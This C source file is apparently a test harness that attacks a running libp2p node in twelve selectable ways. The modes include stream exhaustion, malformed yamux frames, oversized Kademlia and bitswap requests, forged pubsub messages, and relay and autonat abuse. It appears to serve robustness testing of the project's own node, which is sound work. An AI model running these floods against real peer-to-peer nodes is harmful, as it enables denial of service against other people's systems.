/* attacker: a libp2p peer that misbehaves towards a running node, in one way for some seconds, and leaves.
 *
 *   attacker KIND ADDR SECONDS
 *
 * KIND is streams, pushes, yamux, kad, wants, blocks, replica, pubsub, relay, autonat, perf or noise.
 *
 * It prints how often it did what it does. Whether the node was harmed, the caller finds out. */
#include "base/pb.h"
#include "loop/uv_driver.h"
#include "net/host_internal.h"
#include "net/perf.h"
#include "wire/autonat.h"
#include "wire/bitswap.h"
#include "wire/dcutr.h"
#include "wire/identify.h"
#include "wire/kad.h"
#include "wire/pubsub.h"
#include "wire/relay.h"
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define REPLICA_PROTOCOL "/distribute/replica/2.0.0"
enum { STREAMS = 10000, PIECE = 60000, LIFE_SECONDS = 120 };

typedef struct attack {
    host_t *host;
    const multiaddr_t *target;
    conn_t *conn;
    uint64_t until_ms, count;
} attack_t;

static bool goes_on(task_t *t, const attack_t *a)
{
    return task_now_ms(t) < a->until_ms;
}

/* A new connection when the node has ended the last one. */
static err_t connect(task_t *t, attack_t *a)
{
    if (a->conn && conn_is_open(a->conn))
        return OK;
    if (a->conn)
        conn_release(a->conn);
    a->conn = NULL;
    TRY(host_connect_addr(t, a->host, a->target, &a->conn));
    return conn_wait_identified(t, a->conn);
}

static err_t open_stream(task_t *t, attack_t *a, const char *protocol, stream_t **ret)
{
    TRY(connect(t, a));
    deadline_t d = deadline_push(t, 1000);
    err_t e = conn_open_stream(t, a->conn, &protocol, 1, ret, NULL);
    deadline_pop(t, &d);
    return e;
}

static err_t try_write(task_t *t, stream_t *s, bytes_t data)
{
    deadline_t d = deadline_push(t, 500);
    err_t e = stream_write(t, s, data);
    deadline_pop(t, &d);
    return e;
}

/* ── ways to misbehave ───────────────────────────────────────────────────────────────────────── */
static void hold_streams(task_t *t, attack_t *a)
{
    static const char *const protocols[] = {"/ipfs/ping/1.0.0", "/ipfs/bitswap/1.2.0", "/ipfs/lan/kad/1.0.0",
                                            "/ipfs/id/1.0.0", REPLICA_PROTOCOL};
    stream_t **held = xcalloc(STREAMS, sizeof *held);
    for (size_t i = 0; i < STREAMS && goes_on(t, a); i++) {
        if (open_stream(t, a, protocols[i % ARRAY_LEN(protocols)], &held[i]))
            held[i] = NULL;
        else if (!try_write(t, held[i], BYTES_LIT("\xff\xff\x03")))
            a->count++;
    }
    while (goes_on(t, a) && !task_sleep(t, 100))
        ;
    for (size_t i = 0; i < STREAMS; i++)
        stream_close(held[i]);
    free(held);
}

static void flood_pushes(task_t *t, attack_t *a)
{
    static char name[200];
    memset(name, 'p', sizeof name);
    while (goes_on(t, a)) {
        stream_t *s;
        AUTO(buf_t) m;
        buf_init(&m, 1 << 20);
        identify_t id = {.has_protocols = true};
        for (size_t i = 0; i < 38; i++) { /* below the limit of a part */
            id.protocols[id.n_protocols++] = bytes_of(name, sizeof name);
        }
        snprintf(name, 16, "/x/%llu", (unsigned long long)a->count);
        if (open_stream(t, a, IDENTIFY_PUSH_PROTOCOL, &s))
            continue;
        if (!identify_encode(&id, &m) && !stream_write_message(t, s, buf_bytes(&m)))
            a->count++;
        stream_close(s);
    }
}

/* Frames of our own making, inside the secured connection, which may end at every moment. */
static err_t send_raw(task_t *t, attack_t *a, bytes_t plain)
{
    if (!conn_is_open(a->conn) || !a->conn->raw)
        return fail(ERR_UNSUPPORTED, "frames are sent over an open TCP connection");
    uint8_t *out = xmalloc(channel_sealed_size(&a->conn->channel, plain.len));
    size_t len, n;
    err_t e = channel_seal(&a->conn->channel, &plain, 1, out, &len);
    bytes_t rest = bytes_of(out, e ? 0 : len);
    for (int i = 0; !e && rest.len && i < 500; i++) {
        e = conn_is_open(a->conn) ? stream_try_write(a->conn->raw, &rest, 1, &n) : ERR_CLOSED;
        if (!e)
            rest = bytes_slice(rest, n, SIZE_MAX);
        else if (e == ERR_AGAIN)
            e = task_sleep(t, 1);
    }
    free(out);
    return e;
}

static void send_frames(task_t *t, attack_t *a)
{
    static const bytes_t frames[] = {
        BYTES_LIT("\0\0\0\1\0\0\0\1\xff\xff\xff\xff"), /* SYN with 4 GiB of data */
        BYTES_LIT("\0\1\0\1\0\0\0\1\xff\xff\xff\xff\0\1\0\0\0\0\0\1\xff\xff\xff\xff"), /* window overflow */
        BYTES_LIT("\0\0\0\0\0\0\0\7\x7f\xff\xff\xff"),                 /* data for no stream */
        BYTES_LIT("\0\2\0\1\0\0\0\0\0\0\0\1"),                         /* pings, as many as fit */
        BYTES_LIT("\0\1\0\1\0\0\0\1\0\0\0\0\0\1\0\1\0\0\0\1\0\0\0\0"), /* the same SYN twice */
        BYTES_LIT("\0\1\0\1\0\0\0\2\0\0\0\0"),                         /* an id of the other side */
        BYTES_LIT("\0\1\0\1\0\0\0\0\0\0\0\0"),                         /* a stream 0 */
        BYTES_LIT("\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),
    };
    uint8_t *many = xmalloc(PIECE);
    for (size_t i = 0; goes_on(t, a); i++) {
        bytes_t f = frames[i % ARRAY_LEN(frames)];
        if (connect(t, a))
            continue;
        for (size_t n = 0; n + f.len <= PIECE; n += f.len)
            memcpy(many + n, f.data, f.len);
        bool is_ping = i % ARRAY_LEN(frames) == 3;
        for (int k = 0; k < (is_ping ? 50 : 1) && conn_is_open(a->conn); k++)
            if (send_raw(t, a, is_ping ? bytes_of(many, PIECE / f.len * f.len) : f))
                break;
        a->count++;
        (void)!task_sleep(t, 5);
        conn_close(a->conn);
    }
    free(many);
}

static void put_varint(buf_t *out, uint64_t v)
{
    writer_t w = writer_to(out);
    write_uvarint(&w, v);
}

static void ask_dht(task_t *t, attack_t *a)
{
    AUTO(buf_t) m, framed;
    buf_init(&m, 8 << 20);
    buf_init(&framed, 8 << 20);
    while (goes_on(t, a)) {
        uint8_t key[64];
        writer_t w = writer_to(&m);
        stream_t *s;
        buf_clear(&m);
        buf_clear(&framed);
        driver_random(task_driver(t), key, sizeof key);
        key[0] = 0x12;
        key[1] = 32;
        switch (a->count++ % 4) {
        case 0: /* 10,000 closer peers in a request */
            kad_put_head(&w, KAD_FIND_NODE, bytes_of(key, 34));
            for (int i = 0; i < 10000; i++) {
                peer_id_t id = {.len = 34, .data = {0x12, 32, (uint8_t)i, (uint8_t)(i >> 8)}};
                kad_put_peer(&w, KAD_CLOSER, &id, a->target, 1, KAD_CONNECTED);
            }
            break;
        case 1: /* a key of megabytes */
            put_varint(&m, 0x08);
            put_varint(&m, KAD_GET_PROVIDERS);
            put_varint(&m, 0x12);
            put_varint(&m, 40000 * sizeof key);
            for (int i = 0; i < 40000; i++)
                write_bytes(&w, bytes_of(key, sizeof key));
            break;
        case 2: /* values of a namespace that nobody checks */
            kad_put_head(&w, KAD_PUT_VALUE, BYTES_LIT("/junk/key"));
            kad_put_record(&w, BYTES_LIT("/junk/key"), bytes_of(key, sizeof key), BYTES_NONE);
            break;
        case 3: /* providers that are somebody else */
            kad_put_head(&w, KAD_ADD_PROVIDER, bytes_of(key, 34));
            for (int i = 0; i < 100; i++) {
                peer_id_t id = {.len = 34, .data = {0x12, 32, (uint8_t)i, key[5]}};
                kad_put_peer(&w, KAD_PROVIDERS, &id, a->target, 1, KAD_CONNECTED);
            }
        }
        if (open_stream(t, a, KAD_PROTOCOL_LAN, &s))
            continue;
        put_varint(&framed, m.len);
        if (!buf_append(&framed, buf_bytes(&m)))
            (void)!try_write(t, s, buf_bytes(&framed));
        stream_close(s);
    }
}

/* A want-list without end: the entries of one message, again and again with other CIDs. */
static void want_millions(task_t *t, attack_t *a)
{
    while (goes_on(t, a)) {
        stream_t *s;
        if (open_stream(t, a, bitswap_protocols[0], &s))
            continue;
        while (goes_on(t, a)) {
            AUTO(bitswap_message_t) m;
            bitswap_message_init(&m, BITSWAP_V1_2);
            for (int i = 0; i < 20000; i++) {
                bitswap_want_t w = {.priority = i, .send_dont_have = true, .is_have = i & 1};
                uint64_t x = a->count++;
                w.cid = (cid_t){0};
                if (cid_of(1, CODEC_RAW, MH_SHA2_256, bytes_of(&x, sizeof x), &w.cid) ||
                    bitswap_message_add_want(&m, &w))
                    break;
            }
            bytes_t pieces[4];
            if (bitswap_message_finish(&m, 0))
                break;
            size_t n = bitswap_message_pieces(&m, pieces, ARRAY_LEN(pieces));
            deadline_t d = deadline_push(t, 1000);
            err_t e = stream_write_pieces(t, s, pieces, n);
            deadline_pop(t, &d);
            if (e)
                break;
        }
        stream_close(s);
    }
}

/* Blocks that nobody asked for, half of them under a hash that is not theirs. */
static void send_blocks(task_t *t, attack_t *a)
{
    while (goes_on(t, a)) {
        stream_t *s;
        block_t *b;
        if (open_stream(t, a, bitswap_protocols[0], &s))
            continue;
        err_t e = block_new(1 << 20, &b);
        while (!e && goes_on(t, a)) {
            AUTO(bitswap_message_t) m;
            bitswap_message_init(&m, BITSWAP_V1_2);
            memcpy(b->data, &a->count, sizeof a->count);
            e = cid_of(1, CODEC_RAW, a->count & 1 ? MH_SHA2_256 : MH_SHA2_512, block_bytes(b), &b->cid);
            a->count++;
            if (!e)
                e = bitswap_message_add_block(&m, b);
            if (!e)
                e = bitswap_message_finish(&m, 0);
            bytes_t pieces[8];
            size_t n = e ? 0 : bitswap_message_pieces(&m, pieces, ARRAY_LEN(pieces));
            deadline_t d = deadline_push(t, 1000);
            if (!e)
                e = stream_write_pieces(t, s, pieces, n);
            deadline_pop(t, &d);
        }
        block_release(b);
        stream_close(s);
    }
}

static void bother_replicas(task_t *t, attack_t *a)
{
    AUTO(buf_t) junk;
    buf_init(&junk, 1 << 20);
    while (goes_on(t, a)) {
        stream_t *s;
        if (open_stream(t, a, REPLICA_PROTOCOL, &s))
            continue;
        for (int i = 0; i < 50 && goes_on(t, a); i++) {
            uint8_t body[300];
            driver_random(task_driver(t), body, sizeof body);
            body[0] = 8; /* a kind, and then noise */
            body[1] = (uint8_t)(i % 10);
            buf_clear(&junk);
            put_varint(&junk, i % 7 ? sizeof body : 2);
            if (buf_append(&junk, bytes_of(body, i % 7 ? sizeof body : 2)) ||
                try_write(t, s, buf_bytes(&junk)))
                break;
            a->count++;
        }
        stream_close(s);
    }
}

/* One message on a stream of its own; what comes back is not read. */
static void say_once(task_t *t, attack_t *a, const char *protocol, bytes_t message)
{
    stream_t *s;
    AUTO(buf_t) framed;
    buf_init(&framed, 4 << 20);
    if (open_stream(t, a, protocol, &s))
        return;
    put_varint(&framed, message.len);
    if (!buf_append(&framed, message) && !try_write(t, s, buf_bytes(&framed)))
        a->count++;
    stream_close(s);
}

/* RPCs of all kinds, as large as they may be: topics without end, ids that nobody has, forged messages. */
static err_t make_rpc(task_t *t, attack_t *a, size_t kind, buf_t *out)
{
    AUTO(buf_t) control;
    buf_init(&control, 4 << 20);
    writer_t w = writer_to(out), c = writer_to(&control);
    static uint8_t noise[1000][32];
    static bytes_t ids[1000];
    char topic[64];
    driver_random(task_driver(t), noise[0], sizeof noise);
    for (size_t i = 0; i < ARRAY_LEN(ids); i++)
        ids[i] = bytes_of(noise[i], sizeof noise[i]);
    for (size_t i = 0; i < 3000; i++) {
        snprintf(topic, sizeof topic, "topic-%llu-%zu", (unsigned long long)a->count, i);
        if (kind == 0)
            pubsub_put_subscription(&w, bytes_str(topic), true);
        else if (kind == 1)
            pubsub_put_graft(&c, i % 2 ? bytes_str("busy") : bytes_str(topic));
    }
    for (size_t i = 0; i < 20; i++) {
        pubsub_message_t m = {.from = ids[i],
                              .data = ids[i + 1],
                              .seqno = bytes_slice(ids[i], 0, 8),
                              .topic = bytes_str("busy"),
                              .signature = ids[i + 2]};
        if (kind == 2)
            pubsub_put_ihave(&c, bytes_str("busy"), ids, ARRAY_LEN(ids));
        else if (kind == 3)
            pubsub_put_iwant(&c, ids, ARRAY_LEN(ids));
        else if (kind == 4)
            pubsub_put_idontwant(&c, ids, ARRAY_LEN(ids));
        else if (kind == 5)
            pubsub_put_message(&w, &m);
        else if (kind == 6)
            pubsub_put_prune(&c, bytes_str("busy"), (const peer_id_t[16]){{.len = 34, .data = {0x12, 32}}},
                             16, UINT64_MAX);
    }
    pubsub_put_control(&w, buf_bytes(&control));
    return w.err ? w.err : c.err;
}

static void flood_pubsub(task_t *t, attack_t *a)
{
    AUTO(buf_t) rpc, framed;
    buf_init(&rpc, 4 << 20);
    buf_init(&framed, 4 << 20);
    while (goes_on(t, a)) {
        stream_t *s;
        if (open_stream(t, a, pubsub_protocols[a->count % 3], &s))
            continue;
        for (size_t i = 0; i < 100 && goes_on(t, a); i++) {
            buf_clear(&rpc);
            buf_clear(&framed);
            if (make_rpc(t, a, i % 7, &rpc))
                continue;
            put_varint(&framed, i % 50 == 49 ? UINT32_MAX : rpc.len);
            if (buf_append(&framed, buf_bytes(&rpc)) || try_write(t, s, buf_bytes(&framed)))
                break;
            a->count++;
        }
        stream_close(s);
    }
}

/* Reservations, and circuits to oneself and to nobody. */
static void bother_relay(task_t *t, attack_t *a)
{
    AUTO(buf_t) m;
    buf_init(&m, RELAY_MESSAGE_MAX_BYTES);
    for (uint8_t i = 0; goes_on(t, a); i++) {
        relay_message_t ask = {.type = i % 4 ? RELAY_CONNECT : RELAY_RESERVE,
                               .has_peer = i % 4 != 0,
                               .peer = host_id(a->host)[0]};
        if (i % 4 == 2)
            ask.peer = (peer_id_t){.len = 34, .data = {0x12, 32, i}};
        buf_clear(&m);
        writer_t w = writer_to(&m);
        relay_hop_encode(&ask, NULL, 0, &w);
        if (!w.err)
            say_once(t, a, RELAY_HOP_PROTOCOL, buf_bytes(&m));
        else
            a->count++;
    }
}

/* Dials to others, for nothing. */
static void ask_dials(task_t *t, attack_t *a)
{
    AUTO(buf_t) m;
    static multiaddr_t addrs[50];
    char text[64];
    buf_init(&m, AUTONAT2_MESSAGE_MAX_BYTES);
    for (uint64_t i = 0; goes_on(t, a); i++) {
        for (size_t k = 0; k < ARRAY_LEN(addrs); k++) {
            snprintf(text, sizeof text,
                     k % 2 ? "/ip4/127.0.0.%zu/tcp/%zu" : "/ip4/127.0.0.%zu/udp/%zu/quic-v1", 1 + i % 5,
                     k + 1);
            if (multiaddr_parse(text, &addrs[k]))
                return;
        }
        buf_clear(&m);
        writer_t w = writer_to(&m);
        if (i % 2)
            autonat2_encode_request(addrs, ARRAY_LEN(addrs), i, &w);
        else
            autonat_encode_dial(host_id(a->host), addrs, ARRAY_LEN(addrs), &w);
        if (!w.err)
            say_once(t, a, i % 2 ? AUTONAT2_DIAL_PROTOCOL : AUTONAT_PROTOCOL, buf_bytes(&m));
        a->count++;
    }
}

/* As much as there is, asked for and never read. */
static void ask_perf(task_t *t, attack_t *a)
{
    stream_t *held[64] = {0};
    for (size_t i = 0; goes_on(t, a); i = (i + 1) % ARRAY_LEN(held)) {
        if (held[i])
            stream_close(held[i]);
        held[i] = NULL;
        if (open_stream(t, a, PERF_PROTOCOL, &held[i]))
            held[i] = NULL;
        else if (!try_write(t, held[i], BYTES_LIT("\x7f\xff\xff\xff\xff\xff\xff\xff")) &&
                 (i % 2 || !stream_close_write(held[i])))
            a->count++;
        (void)!task_sleep(t, 5);
    }
    for (size_t i = 0; i < ARRAY_LEN(held); i++)
        stream_close(held[i]);
}

/* Noise and half messages on all protocols. */
static void say_noise(task_t *t, attack_t *a)
{
    static const char *const protocols[] = {RELAY_HOP_PROTOCOL,     RELAY_STOP_PROTOCOL,    AUTONAT_PROTOCOL,
                                            AUTONAT2_DIAL_PROTOCOL, AUTONAT2_BACK_PROTOCOL, DCUTR_PROTOCOL,
                                            "/libp2p/fetch/0.0.1",  "/meshsub/1.2.0",       "/floodsub/1.0.0",
                                            IDENTIFY_PUSH_PROTOCOL, KAD_PROTOCOL_LAN,       PERF_PROTOCOL};
    for (size_t i = 0; goes_on(t, a); i++) {
        uint8_t body[700];
        stream_t *s;
        if (open_stream(t, a, protocols[i % ARRAY_LEN(protocols)], &s))
            continue;
        driver_random(task_driver(t), body, sizeof body);
        body[0] &= 0x7f; /* a length */
        size_t len = body[1] % 4 ? sizeof body : 1 + body[2] % 64;
        if (i % 3)
            body[1] = (uint8_t)(8 | (body[1] & 0x1a));
        if (!try_write(t, s, bytes_of(body, len)))
            a->count++;
        if (i % 5 == 0)
            stream_reset(s);
        stream_close(s);
    }
}

static const struct {
    const char *name;
    void (*run)(task_t *t, attack_t *a);
} attacks[] = {
    {"streams", hold_streams},    {"pushes", flood_pushes},
    {"yamux", send_frames},       {"kad", ask_dht},
    {"wants", want_millions},     {"blocks", send_blocks},
    {"replica", bother_replicas}, {"pubsub", flood_pubsub},
    {"relay", bother_relay},      {"autonat", ask_dials},
    {"perf", ask_perf},           {"noise", say_noise},
};

/* ── running ─────────────────────────────────────────────────────────────────────────────────── */
static char **args;

static err_t run(task_t *t, void *arg)
{
    multiaddr_t target;
    private_key_t *key;
    host_t *h;
    TRY(multiaddr_parse(args[2], &target));
    TRY(private_key_generate(KEY_ED25519, NULL, 0, &key));
    host_config_t c = {.key = key, .may_use_loopback = true};
    host_limits_default(&c.limits);
    c.limits.max_streams_per_conn = 2 * STREAMS;
    TRY(host_new(task_sched(t), &c, &h));
    attack_t a = {
        .host = h, .target = &target, .until_ms = task_now_ms(t) + 1000 * strtoull(args[3], NULL, 10)};
    err_t e = connect(t, &a);
    for (size_t i = 0; !e && i < ARRAY_LEN(attacks); i++)
        if (!strcmp(attacks[i].name, args[1]))
            attacks[i].run(t, &a);
    printf("%llu\n", (unsigned long long)a.count);
    fflush(stdout);
    if (a.conn)
        conn_release(a.conn);
    host_close(t, h);
    private_key_free(key);
    return e;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: attacker KIND ADDR SECONDS\n");
        return 2;
    }
    alarm(LIFE_SECONDS); /* whatever happens */
    args = argv;
    driver_t *d = uv_driver_new(1);
    sched_t *s = sched_new(d);
    err_t e = sched_run(s, "attacker", run, NULL);
    if (e)
        fprintf(stderr, "error: %s\n", error_text(e));
    sched_free(s);
    uv_driver_free(d);
    return e != OK;
}
